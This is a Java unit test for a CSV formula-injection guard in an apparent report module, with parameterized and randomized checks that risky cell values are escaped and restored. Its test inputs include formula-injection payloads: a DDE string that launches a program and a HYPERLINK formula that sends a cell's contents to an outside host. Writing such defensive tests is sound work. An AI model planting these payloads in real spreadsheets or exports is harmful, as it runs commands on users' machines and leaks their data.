package org.ferryman.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvGuardTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "=",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.org?\"&A1)",
                "\tx",
                "\rx",
                "\nx",
                " =1",
                "\u0000=1",
                "\u00A0=1",
                "\uFEFF=1",
                "\u200B=1",
                "\u3000=1",
                " \r",
                "\uFF1D1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF201",
                "\uFE661",
                "'",
                "'=1",
                "'quoted'"
            })
    void what_a_spreadsheet_could_run_gets_one_apostrophe_in_front(String value) {
        assertThat(CsvGuard.guard(value)).isEqualTo("'" + value);
        assertThat(CsvGuard.unguard("'" + value)).isEqualTo(value);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "a=b",
                "a-b",
                "user@example.org",
                "ns:obj#rel",
                "it's",
                "1",
                "(1)",
                "\"=1\"",
                "a\nb",
                "x;y"
            })
    void harmless_values_stay_as_they_are(String value) {
        assertThat(CsvGuard.guard(value)).isEqualTo(value);
        assertThat(CsvGuard.unguard(value)).isEqualTo(value);
    }

    @Test
    void a_formula_behind_a_separator_within_the_value_is_guarded_too() {
        assertThat(CsvGuard.guard("x;=1+1;y")).isEqualTo("x;'=1+1;y");
        assertThat(CsvGuard.guard("x\n@SUM(1)")).isEqualTo("x\n'@SUM(1)");
        assertThat(CsvGuard.guard("  \t =1")).isEqualTo("'  \t' =1");
        assertThat(CsvGuard.guard("=1;'a; -2")).isEqualTo("'=1;''a;' -2");
    }

    @Test
    void every_value_comes_back_and_no_cell_can_start_a_formula() {
        long seed = System.nanoTime();
        Random random = new Random(seed);
        String alphabet = "=+-@\uFF1D\uFF0B'; \t\r\n\"\u0000\u00A0\uFEFFa1,";
        for (int round = 0; round < 200_000; round++) {
            StringBuilder value = new StringBuilder();
            for (int left = random.nextInt(8); left > 0; left--) {
                value.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            String guarded = CsvGuard.guard(value.toString());
            assertThat(CsvGuard.unguard(guarded)).as("seed %d", seed).isEqualTo(value.toString());
            for (String cell : guarded.split("[;\t\r\n]", -1)) {
                assertThat(startsFormula(cell))
                        .as("seed %d, cell <%s> of <%s>", seed, cell, guarded)
                        .isFalse();
            }
        }
    }

    /** The requirement once more, by hand: the first character that is neither blank nor invisible. */
    private static boolean startsFormula(String cell) {
        return cell.chars()
                .filter(c -> !Character.isSpaceChar(c) && !Character.isISOControl(c) && c != '\uFEFF')
                .limit(1)
                .anyMatch(c -> "=+-@\uFF1D\uFF0B".indexOf(c) >= 0);
    }
}
